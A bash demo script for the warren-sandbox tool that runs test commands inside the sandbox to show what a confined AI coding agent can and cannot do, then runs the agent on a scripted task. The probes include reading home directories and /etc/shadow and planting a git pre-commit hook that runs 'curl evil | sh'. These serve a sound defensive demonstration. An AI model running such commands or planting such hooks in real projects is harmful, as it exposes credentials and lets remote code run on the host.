#!/usr/bin/env bash
# A short tour of warren-sandbox: each step runs a real sandbox and shows what the command inside could
# and could not do; the last one is warren-agent at work in it, driven by the scripted demo model.
#   packaging/sandbox-demo.sh [PATH-TO-warren-sandbox [PATH-TO-warren-agent]]
set -uo pipefail
sandbox=${1:-build/sandbox/warren-sandbox}
agent=${2:-$(dirname "$sandbox")/../agent_core/tool/warren-agent}
demo=$(cd "$(dirname "$0")/../resources/demo" && pwd)
[ -x "$sandbox" ] || { echo "sandbox-demo: $sandbox not found; build first (see README)" >&2; exit 1; }
workspace=$(mktemp -d)
trap 'rm -rf "$workspace"' EXIT
git -C "$workspace" init -q && git -C "$workspace" -c user.name=demo -c user.email=demo@localhost commit -q --allow-empty -m init

step() { printf '\n\033[1m$ %s\033[0m\n' "$1"; shift; "$sandbox" --workspace "$workspace" "$@"; echo "(exit status $?)"; }

step "who am I inside, and what is there?" -- sh -c 'id; ls /; ls -A /workspace'
secrets=$(printf '%s\n' "$HOME" /root | sort -u | tr '\n' ' ')
step "read the host's secrets (${secrets}/etc/shadow)" -- sh -c "ls $secrets 2>&1; cat /etc/shadow"
step "reach the network (1.1.1.1:443)" -- python3 -c '
import socket
try:
    socket.create_connection(("1.1.1.1", 443), timeout=5)
    print("connected")
except OSError as error:
    print("no network:", error)'
step "plant a git hook the host would run" -- sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit'
step "work normally: write, compile, commit" -- sh -c 'printf "int main(void){return 0;}\n" > ok.c && cc ok.c -o ok && ./ok && git add ok.c && git -c user.name=agent -c user.email=agent@sandbox commit -qm "add ok.c" && git log --oneline | head -2'
step "a runaway command, stopped by --timeout 2" --timeout 2 -- sh -c 'sleep 600 & sleep 600'
step "the exact bwrap command line (--explain)" --explain -- true | sed -n '/# Command line/,$p'

if [ -x "$agent" ]; then
    agent=$(realpath "$agent")
    agent_workspace=$(mktemp -d)
    trap 'rm -rf "$workspace" "$agent_workspace"' EXIT
    cp -r "$demo/workspace/." "$agent_workspace"
    printf '\n\033[1m$ %s\033[0m\n' "warren-agent, inside the sandbox, fixes a failing test (scripted demo model)"
    "$sandbox" --workspace "$agent_workspace" --ro "$agent" --ro "$demo/script.json" -- \
        "$agent" run --script "$demo/script.json" --workspace /workspace --set memory_backend=in-memory \
        --set log_level=warn "Make the test pass" |
        python3 -c '
import json, sys
for line in sys.stdin:
    event = json.loads(line)
    data, kind, step = event["data"], event["type"], event["step"]
    if kind == "model_response" and data["content"]:
        print("  step %d  model: %s" % (step, data["content"]))
    elif kind == "tool_call":
        print("  step %d  %s %s" % (step, event["tool"], json.dumps(data["arguments"])))
    elif kind == "tool_output":
        print("           | " + data["text"].rstrip("\n").replace("\n", "\n           | "))
    elif kind == "file_changed":
        print("           %s: %s" % (data["change"], data["path"]))
    elif kind == "task_finished":
        print("  %s: %s" % (data["reason"], data["summary"]))'
    echo "(exit status ${PIPESTATUS[0]}; on the host, greet.sh now says: $(sh "$agent_workspace/greet.sh" Warren))"
fi
